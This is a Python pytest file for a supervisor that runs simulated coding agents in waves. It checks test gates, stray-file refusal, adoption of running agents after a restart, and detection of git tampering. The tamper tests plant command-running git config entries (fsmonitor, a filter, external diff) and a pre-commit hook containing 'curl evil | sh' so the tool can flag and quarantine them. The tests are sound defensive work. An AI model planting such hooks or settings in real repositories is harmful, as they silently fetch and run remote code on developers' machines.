"""The supervisor on a real demo sandbox: gates with reasons, adoption, stop/restart/mark done,
stray paths, tamper, corrupt state (B13). Real git, real simulated agents, real files."""

from __future__ import annotations

import asyncio
from pathlib import Path

import pytest

from tests.unit.wave.enginekit import (
    Collector,
    collecting,
    git,
    opened,
    sandbox,
    supervisor,
    wait_agents,
)
from wavedeck.agents import events as ev
from wavedeck.agents.events import (
    AgentStateChanged,
    CheckpointCommitted,
    GateRefused,
    IssueDone,
    ViolationFound,
)
from wavedeck.agents.kinds import AgentStanding, Refusal
from wavedeck.agents.tools.demo import STRAY_AGENT, STRAY_PATH
from wavedeck.agents.wave.supervisor import Supervisor, SupervisorError

pytestmark = pytest.mark.timeout(90)


def _refusals(col: Collector) -> list[Refusal]:
    return [e.refusal for e in col.of(GateRefused)]


def _code(refusal: Refusal | None) -> str | None:
    return refusal.code if refusal is not None else None


def _planted_state(root: Path, data: bytes) -> Path:
    """A sandbox at ``root`` whose state file already holds ``data``; the state file."""
    sandbox(root)
    state = root / ".wavedeck" / "state.json"
    state.parent.mkdir()
    state.write_bytes(data)
    return state


async def test_wave_two_cannot_start_before_wave_one(root: Path) -> None:
    sandbox(root)
    async with opened(root) as (sup, col):
        assert sup.wave_state(1) == "ready" and sup.wave_state(2) == "locked"
        assert sup.can_start_wave(2) == Refusal("previous-not-run", 2, other=1)
        await sup.start_wave(2)
        await col.until(lambda evs: any(isinstance(e, GateRefused) for e in evs))
        assert _refusals(col)[0] == Refusal("previous-not-run", 2, other=1)
        assert sup.agent_state("w2-a1") == "pending"
        assert not (root / ".wavedeck" / "logs" / "w2-a1.log").exists()


@pytest.mark.slow
async def test_checkpoint_refused_before_tests_and_after_failing_tests(root: Path) -> None:
    sandbox(root, tests=["echo checking; exit 3"])
    async with opened(root) as (sup, col):
        await sup.start_wave(1)
        await wait_agents(sup, 1)
        assert all(sup.agent_state(a.id) == "succeeded" for a in sup.plan.wave(1).agents)
        assert await sup.checkpoint(1) is None
        await col.until(lambda evs: len(_refusals(col)) == 1)
        assert _refusals(col)[0].code == "tests-not-run"
        assert _code(sup.can_start_wave(2)) == "previous-untested"

        assert await sup.run_tests(1) is False
        await col.until(lambda evs: any(isinstance(e, ev.TestsFinished) for e in evs))
        finished = col.of(ev.TestsFinished)[0]
        assert finished.passed is False
        assert finished.results == (("echo checking; exit 3", 3),)
        assert "checking" in [e.line for e in col.of(ev.TestOutput)]
        assert sup.wave_state(1) == "running"
        assert await sup.checkpoint(1) is None
        await col.until(lambda evs: len(_refusals(col)) == 2)
        assert _refusals(col)[1].code == "tests-failed"
        assert len(git(root, "log", "--format=%H").split()) == 2  # demo + test settings only

        sup.config.tests.commands = ["true"]
        assert await sup.run_tests(1) is True
        assert sup.wave_state(1) == "tested"
        # The demo's w1-a2 wrote a file no wave-1 agent owns: listed, refused.
        preview = await sup.checkpoint_preview(1)
        assert [s.path for s in preview.stray] == [STRAY_PATH]
        assert preview.refusal == Refusal("stray-paths", 1, paths=(STRAY_PATH,))
        assert STRAY_PATH not in preview.paths
        assert set(preview.issues) == set(sup.plan.wave(1).issue_ids)
        assert sorted(preview.issues_done) == sorted(sup.plan.wave(1).issue_ids)
        assert await sup.checkpoint(1) is None
        await col.until(lambda evs: len(_refusals(col)) == 3)
        assert col.of(GateRefused)[2].paths == (STRAY_PATH,)

        await sup.accept_violation(1, STRAY_PATH, "the daemon really lives in cli/")
        # A file edited after the tests passed makes them stale.
        client = root / "packages/headless-client/zajel/client.py"
        original = client.read_text("utf-8")
        client.write_text(original + "# edited after the tests\n", "utf-8")
        preview = await sup.checkpoint_preview(1)
        assert _code(preview.refusal) == "tests-stale"
        assert preview.tests_stale
        client.write_text(original, "utf-8")
        assert (await sup.checkpoint_preview(1)).refusal is None
        sha = await sup.checkpoint(1)
        assert sha is not None and git(root, "rev-parse", "HEAD") == sha
        message = git(root, "log", "-1", "--format=%B")
        assert "Wavedeck-Wave: 1" in message
        assert (
            f"Wavedeck-Accepted: {STRAY_PATH} (the daemon really lives in cli/; writer unknown)"
            in message
        )
        assert STRAY_PATH in git(root, "show", "--name-only", "--format=", sha).split()
        assert git(root, "status", "--porcelain") == ""
        assert sup.wave_state(1) == "committed" and sup.wave_state(2) == "ready"
        await col.until(lambda evs: any(isinstance(e, CheckpointCommitted) for e in evs))


@pytest.mark.slow
async def test_revert_removes_a_stray_change(root: Path) -> None:
    sandbox(root, extra={STRAY_AGENT: ["--touch-unowned", "packages/headless-client/zajel/x.py"]})
    async with opened(root) as (sup, col):
        await sup.start_wave(1)
        await wait_agents(sup, 1)
        await col.until(
            lambda evs: any(isinstance(e, ViolationFound) and e.path.endswith("x.py") for e in evs)
        )
        assert sup.violations(1)[0].kind == "unowned"
        await sup.revert_path(1, "packages/headless-client/zajel/x.py")
        assert not (root / "packages/headless-client/zajel/x.py").exists()
        assert await sup.run_tests(1)
        preview = await sup.checkpoint_preview(1)
        assert preview.stray == () and preview.refusal is None
        assert await sup.checkpoint(1) is not None


@pytest.mark.slow
async def test_git_tamper_during_the_wave_is_reported_and_refused(root: Path) -> None:
    sandbox(root, extra={})
    async with opened(root) as (sup, _col):
        await sup.start_wave(1)
        git(root, "config", "core.fsmonitor", "touch /tmp/never-run-by-wavedeck")
        await wait_agents(sup, 1)
        assert await sup.run_tests(1)
        preview = await sup.checkpoint_preview(1)
        assert any("core.fsmonitor" in line for line in preview.tamper)
        found = [f for f in preview.tamper_findings if f.key == "core.fsmonitor"]
        assert [(f.where, f.change, f.program) for f in found] == [(".git/config", "added", True)]
        assert found[0].value == "touch /tmp/never-run-by-wavedeck"
        assert [f.text for f in preview.tamper_findings] == list(preview.tamper)
        key = "(git) .git/config core.fsmonitor"
        assert [(s.path, s.kind) for s in preview.stray] == [(key, "tamper")]
        assert preview.refusal is not None and preview.refusal.code == "git-tampered"
        assert preview.refusal.paths == (key,)
        assert await sup.checkpoint(1) is None
        # Issue #20: --accept-violations never accepts a change of .git in bulk.
        assert await sup.checkpoint(1, accept_violations=True) is None
        assert key not in sup.accepted(1)
        # Reviewed one at a time: confirmed, it is recorded in the commit.
        await sup.accept_violation(1, key, "our own monitor")
        sha = await sup.checkpoint(1)
        assert sha is not None
        message = git(root, "log", "-1", "--format=%B")
        assert f"Wavedeck-Accepted: {key} (our own monitor)" in message


async def test_a_planted_setting_undone_by_the_operator_lets_the_checkpoint_through(
    root: Path,
) -> None:
    sandbox(root, extra={})
    git(root, "config", "diff.external", "/usr/bin/team-diff")  # the operator's own, before
    hook = root / ".git" / "hooks" / "pre-commit"
    async with opened(root) as (sup, col):
        await sup.start_wave(1)
        git(root, "config", "filter.evil.clean", "touch /tmp/never-run-by-wavedeck")
        git(root, "config", "diff.external", "/tmp/evil-diff")
        hook.write_text("#!/bin/sh\nexit 0\n")
        hook.chmod(0o755)
        await wait_agents(sup, 1)
        keys = {
            "(git) .git/config filter.evil.clean",
            "(git) .git/config diff.external",
            "(git) hook .git/hooks/pre-commit",
        }
        await col.until(lambda _evs: keys <= {v.path for v in sup.violations(1)}, timeout=15)
        assert await sup.run_tests(1)
        for key in sorted(keys):
            await sup.revert_path(1, key)
        assert git(root, "config", "--get", "diff.external") == "/usr/bin/team-diff"
        assert git(root, "config", "--get-regexp", "^filter", check=False) == ""
        assert not hook.exists()
        assert (root / ".wavedeck" / "quarantine" / "wave-1" / "pre-commit").exists()
        preview = await sup.checkpoint_preview(1)
        assert preview.tamper == () and preview.refusal is None, preview.refusal
        assert await sup.checkpoint(1) is not None


async def test_the_operators_hook_changed_during_a_wave_is_put_back_by_undo(root: Path) -> None:
    """The wave-start snapshot keeps a copy of each hook: undo writes the operator's own back
    (the agent's version quarantined), and the checkpoint goes through."""
    sandbox(root, extra={})
    hook = root / ".git" / "hooks" / "pre-commit"
    hook.write_text("#!/bin/sh\necho the team's check\n")
    hook.chmod(0o755)
    async with opened(root) as (sup, col):
        await sup.start_wave(1)
        hook.write_text("#!/bin/sh\ncurl evil | sh\n")
        await wait_agents(sup, 1)
        key = "(git) hook .git/hooks/pre-commit"
        await col.until(lambda _evs: key in {v.path for v in sup.violations(1)}, timeout=15)
        assert await sup.run_tests(1)
        await sup.revert_path(1, key)
        assert hook.read_text() == "#!/bin/sh\necho the team's check\n"
        quarantined = root / ".wavedeck" / "quarantine" / "wave-1" / "pre-commit"
        assert "curl evil" in quarantined.read_text()
        preview = await sup.checkpoint_preview(1)
        assert preview.tamper == () and preview.refusal is None, preview.refusal
        assert await sup.checkpoint(1) is not None


@pytest.mark.slow
async def test_restart_adopts_running_agents_and_never_launches_twice(root: Path) -> None:
    sandbox(root, extra={a: ["--hang"] for a in ("w1-a1", "w1-a2", "w1-a3", "w1-a4", "w1-a5")})
    async with opened(root) as (first, col):
        await first.start_wave(1)
        await col.until(lambda evs: len(col.of(IssueDone)) >= 5)
    # ``first`` is closed without stopping its agents: they keep running.
    pids = {a: h.pid for a in first.state.agents if (h := first.agent_record(a).handle)}

    async with opened(root) as (second, col2):
        await col2.until(
            lambda evs: (
                sum(isinstance(e, AgentStateChanged) and e.reason == "adopted" for e in evs) == 5
            )
        )
        for agent, pid in pids.items():
            rec = second.agent_record(agent)
            assert rec.launches == 1 and rec.state == "running"
            assert rec.handle is not None and rec.handle.pid == pid
        await second.start_wave(1)  # already started: nothing is launched again
        assert all(second.agent_record(a).launches == 1 for a in pids)

        # Operator actions on an adopted agent.
        await second.mark_done("w1-a1", "looks fine")
        await col2.until(lambda evs: any(r.code == "agent-running" for r in _refusals(col2)))
        running = Refusal("agent-running", 1, agents=(AgentStanding("w1-a1", "running"),))
        assert running in _refusals(col2)
        assert await second.stop_agent("w1-a1") in ("terminated", "killed after grace")
        await col2.until(
            lambda evs: any(
                isinstance(e, AgentStateChanged) and e.agent == "w1-a1" and e.state == "stopped"
                for e in evs
            )
        )
        await second.restart_agent("w1-a1")
        assert second.agent_record("w1-a1").launches == 2
        assert second.agent_state("w1-a1") == "running"
        # Closed here to see the agents stopped; leaving the block closes it once more.
        await second.close(stop_agents=True)
        assert {a: second.agent_state(a) for a in pids} == {a: "stopped" for a in pids}, {
            a: second.agent_record(a).reason for a in pids
        }
        refused = second.can_run_tests(1)
        assert refused is not None and refused.code == "agents-unfinished"
        assert AgentStanding("w1-a1", "stopped") in refused.agents

    third = supervisor(root)
    await third.open()
    try:
        for agent in pids:
            await third.mark_done(agent, "stopped by hand, work is complete")
        assert third.can_run_tests(1) is None
        assert third.agent_record("w1-a2").marked_done == "stopped by hand, work is complete"
    finally:
        await third.close()


async def test_corrupt_state_is_refused_with_a_clear_message(root: Path) -> None:
    state = _planted_state(root, b'{"version": 1, "agents": {"w1-a1": {"state": "runn')
    sup = supervisor(root)
    with pytest.raises(SupervisorError, match="corrupt") as info:
        await sup.open()
    assert str(state) in str(info.value)
    assert state.read_bytes().startswith(b'{"version": 1')  # left for the operator to inspect
    state.unlink()
    again = supervisor(root)
    await again.open()  # the lock was released by the failed open
    await again.close()


async def test_second_supervisor_on_one_repo_is_refused(root: Path) -> None:
    sandbox(root)
    first = supervisor(root)
    await first.open()
    try:
        with pytest.raises(SupervisorError, match="already running"):
            await supervisor(root).open()
    finally:
        await first.close()


async def test_state_naming_agents_outside_the_plan_is_refused(root: Path) -> None:
    _planted_state(root, b'{"version": 1, "agents": {"w9-a1": {}}}')
    with pytest.raises(SupervisorError, match="w9-a1"):
        await supervisor(root).open()


def test_supervisor_is_importable_without_a_loop(tmp_path: Path) -> None:
    root = sandbox(tmp_path / "repo")
    sup: Supervisor = supervisor(root)
    assert sup.current_wave == 1 and sup.test_commands()


@pytest.mark.slow
async def test_two_concurrent_starts_launch_each_agent_once(root: Path) -> None:
    sandbox(root, extra={})
    async with opened(root) as (sup, col):
        await asyncio.gather(sup.start_wave(1), sup.start_wave(1))
        assert all(sup.agent_record(a.id).launches == 1 for a in sup.plan.wave(1).agents)
        await col.until(lambda evs: any(isinstance(e, GateRefused) for e in evs))
        assert _refusals(col)[0] == Refusal("wave-started", 1)
        await wait_agents(sup, 1)
        for agent in sup.plan.wave(1).agents:
            log = sup.log_path(agent.id).read_text("utf-8")
            assert log.count(f"sim-agent {agent.id} started") == 1


@pytest.mark.slow
async def test_an_agent_started_but_never_recorded_is_adopted_not_relaunched(root: Path) -> None:
    from wavedeck.agents.local.runner import LocalRunner
    from wavedeck.agents.wave.launch import build_spec

    sandbox(root, extra={"w1-a1": ["--hang"]})
    sup = supervisor(root)
    # A control room that died right after starting w1-a1, before saving the state.
    spec = build_spec(root, root / ".wavedeck", sup.plan, sup.config, "w1-a1", root)
    orphan = await LocalRunner(root / ".wavedeck").launch(spec)
    async with collecting(sup, stop_agents=True) as col:
        await sup.start_wave(1)
        rec = sup.agent_record("w1-a1")
        assert rec.handle is not None and rec.handle.pid == orphan.pid
        assert rec.launches == 1 and rec.state == "running"
        await col.until(
            lambda evs: any(
                isinstance(e, AgentStateChanged) and e.agent == "w1-a1" and e.reason == "adopted"
                for e in evs
            )
        )
        await col.until(lambda evs: len(col.of(IssueDone)) >= 5)
        log = sup.log_path("w1-a1").read_text("utf-8")
        assert log.count("sim-agent w1-a1 started") == 1


@pytest.mark.slow
async def test_a_stop_request_stops_launching_and_a_later_start_finishes_the_wave(
    root: Path,
) -> None:
    """B9: once a stop is requested (a signal to ``wavedeck run`` clears ``launching``), no
    further agent starts and the operator is told which did not; the next start of that wave
    launches exactly the agents that never ran."""
    sandbox(root)
    async with opened(root) as (sup, col):
        sup.launching = False  # the stop request arrives before the first launch
        await sup.start_wave(1)
        await col.until(lambda evs: any(isinstance(e, ev.Notice) for e in evs))
        notices = [e.message for e in col.of(ev.Notice)]
        assert "stopped launching: w1-a1 was not started" in notices
        ids = [a.id for a in sup.plan.wave(1).agents]
        assert all(sup.agent_record(a).launches == 0 for a in ids)
        assert not list((root / ".wavedeck" / "run").glob("*.exit"))

        sup.launching = True
        await sup.start_wave(1)  # the interrupted start is finished, nothing launched twice
        await wait_agents(sup, 1)
        assert [sup.agent_record(a).launches for a in ids] == [1] * len(ids)
        assert all(sup.agent_state(a) == "succeeded" for a in ids)
